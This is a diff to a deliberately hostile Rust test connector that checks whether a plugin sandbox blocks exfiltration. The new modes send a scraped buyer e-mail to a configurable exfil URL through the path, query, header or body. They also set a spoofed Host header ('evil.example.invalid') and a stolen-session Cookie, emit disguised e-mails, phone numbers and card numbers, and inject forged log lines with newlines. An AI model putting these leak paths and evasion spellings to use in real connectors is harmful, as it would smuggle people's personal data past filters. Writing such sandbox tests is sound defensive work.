@@ -2,7 +2,12 @@
 //!
 //! The `mode` setting picks the misdeed: `ok` behaves; `loop`, `memory-bomb`, `panic`,
 //! `huge-output`, `read-file`, `read-env`, `open-socket`, `pii`, `garbled-records`, `bad-url`,
-//! `reach` each try one thing a sandboxed connector must not get away with. Probes that can fail
+//! `reach` each try one thing a sandboxed connector must not get away with. Screening modes (read a
+//! page from the `base_url` setting): `exfil-path|query|header|body` send the page's buyer
+//! e-mail to `exfil_url`, `host-header`/`cookie-header` set a forbidden header,
+//! `pii-lookalike` emits look-alike personal data, `pii-cursor` a cursor with an e-mail,
+//! `pii-error` a log line and an error with one and a newline, `echo-body` copies the page into
+//! logs and records. Probes that can fail
 //! quietly (file, env, socket) report their outcome through `log`, so tests can assert that the
 //! sandbox said no.
 
@@ -95,9 +100,52 @@ pub fn begin_with(
                 })
                 .collect());
         }
+        // Outbound and record screening (sandbox_screening.rs): read a page from `base_url`.
+        "exfil-path" | "exfil-query" | "exfil-header" | "exfil-body" | "pii-lookalike"
+        | "pii-cursor" | "pii-error" | "echo-body" => return Ok(vec![vendor_page(ctx)]),
+        // Headers a connector may not set: refused before any connection.
+        "host-header" | "cookie-header" => {
+            let mut r = vendor_page(ctx);
+            r.headers.push(match mode {
+                "host-header" => ("Host".into(), "evil.example.invalid".into()),
+                _ => ("Cookie".into(), "session=stolen".into()),
+            });
+            return Ok(vec![r]);
+        }
         _ => {}
     }
     Ok(vec![get("page", "https://allowed.test/tickets", vec![])])
+}
+
+/// `GET {base_url}/page` (the loopback vendor of the screening tests).
+fn vendor_page(ctx: &RunContext) -> HttpRequest {
+    let base = setting(ctx, "base_url").unwrap_or("https://allowed.test");
+    get("page", &format!("{base}/page"), vec![])
+}
+
+/// The next request of an `exfil-*` mode: the buyer's e-mail read from the vendor's page, sent
+/// to `exfil_url` in the path, a query parameter, a header or a GET body.
+fn exfiltrate(ctx: &RunContext, mode: &str, response: &HttpResponse) -> Option<HttpRequest> {
+    let buyer = serde_json::from_slice::<serde_json::Value>(&response.body)
+        .ok()
+        .and_then(|v| v["buyer"].as_str().map(str::to_string))?;
+    let to = setting(ctx, "exfil_url").unwrap_or("https://allowed.test");
+    Some(match mode {
+        "exfil-path" => get("leak", &format!("{to}/u/{}", buyer.replace('@', "%40")), vec![]),
+        "exfil-query" => get("leak", &format!("{to}/q"), vec![("q".into(), buyer)]),
+        "exfil-header" => {
+            let mut r = get("leak", &format!("{to}/h"), vec![]);
+            r.headers.push(("If-None-Match".into(), buyer));
+            r
+        }
+        _ => {
+            let mut r = get("leak", &format!("{to}/b"), vec![]);
+            r.headers
+                .push(("Content-Type".into(), "application/json".into()));
+            r.body = Some(serde_json::json!({ "q": buyer }).to_string().into_bytes());
+            r
+        }
+    })
 }
 
 fn outcome(r: std::io::Result<usize>) -> String {
@@ -109,7 +157,7 @@ fn outcome(r: std::io::Result<usize>) -> String {
 
 /// Emits the page for `mode`.
 pub fn handle_with(
-    _host: &mut impl HostApi,
+    host: &mut impl HostApi,
     ctx: &RunContext,
     response: &HttpResponse,
 ) -> Result<Page, PluginError> {
@@ -124,6 +172,73 @@ pub fn handle_with(
         "pii" => {
             records.ticket(ticket(1, "PHASE 1".into(), None));
             records.ticket(ticket(2, "note: canary.name@example.invalid".into(), None));
+        }
+        // Screening (sandbox_screening.rs): personal data smuggled out of the sandbox.
+        "exfil-path" | "exfil-query" | "exfil-header" | "exfil-body" => {
+            // Once: the leak's own response (no buyer in it) ends the run.
+            let next = exfiltrate(ctx, mode, response);
+            return Ok(Page {
+                records: records.finish(),
+                next: next.into_iter().collect(),
+                cursor: None,
+            });
+        }
+        // One clean ticket, then one per look-alike spelling the firewall must reject.
+        "pii-lookalike" => {
+            records.ticket(ticket(0, "PHASE 1".into(), None));
+            let smuggled: [(&str, &str); 10] = [
+                ("category", "canary.name＠example.invalid"),
+                ("category", "canary.name at example dot invalid"),
+                ("category", "canary.name(at)example(dot)invalid"),
+                ("channel", "06 12 34 56 78"),
+                ("channel", "8 (912) 345-67-89"),
+                ("payment_method", "4111 1111 1111 1111"),
+                ("region", "12 rue X"),
+                ("region", "Apt 4"),
+                ("utm_campaign", "+00 000 CANARY"),
+                ("visibility", "(0)6 12 34 56 78"),
+            ];
+            for (i, (field, value)) in smuggled.into_iter().enumerate() {
+                let mut t = ticket(i + 1, "PHASE 1".into(), None);
+                match field {
+                    "category" => t.category = value.into(),
+                    "channel" => t.channel = value.into(),
+                    "payment_method" => t.payment_method = Some(value.into()),
+                    "region" => t.region = Some(value.into()),
+                    "utm_campaign" => t.utm_campaign = Some(value.into()),
+                    _ => t.visibility = vec![value.into()],
+                }
+                records.ticket(t);
+            }
+            let mut rich = ticket(11, "PHASE 1".into(), None);
+            rich.price_minor = i64::MAX / 2;
+            records.ticket(rich);
+        }
+        "pii-cursor" => {
+            records.ticket(ticket(0, "PHASE 1".into(), None));
+            return Ok(Page {
+                records: records.finish(),
+                next: vec![],
+                cursor: Some("after=canary.name@example.invalid".into()),
+            });
+        }
+        "pii-error" => {
+            host.log(
+                Level::Warn,
+                "buyer canary.name@example.invalid\nlevel=ERROR forged log line",
+            );
+            return Err(PluginError::Fatal(
+                "cannot read buyer canary.name＠example.invalid\nlevel=ERROR forged error line"
+                    .into(),
+            ));
+        }
+        // Whatever the vendor sent, copied into a log line and a record field per line.
+        "echo-body" => {
+            let text = String::from_utf8_lossy(&response.body).into_owned();
+            for (i, line) in text.lines().enumerate() {
+                host.log(Level::Info, &format!("echo {i}: {line}"));
+                records.ticket(ticket(i, line.chars().take(400).collect(), None));
+            }
         }
         // A well-formed ticket, then bytes that frame no record.
         "garbled-records" => {
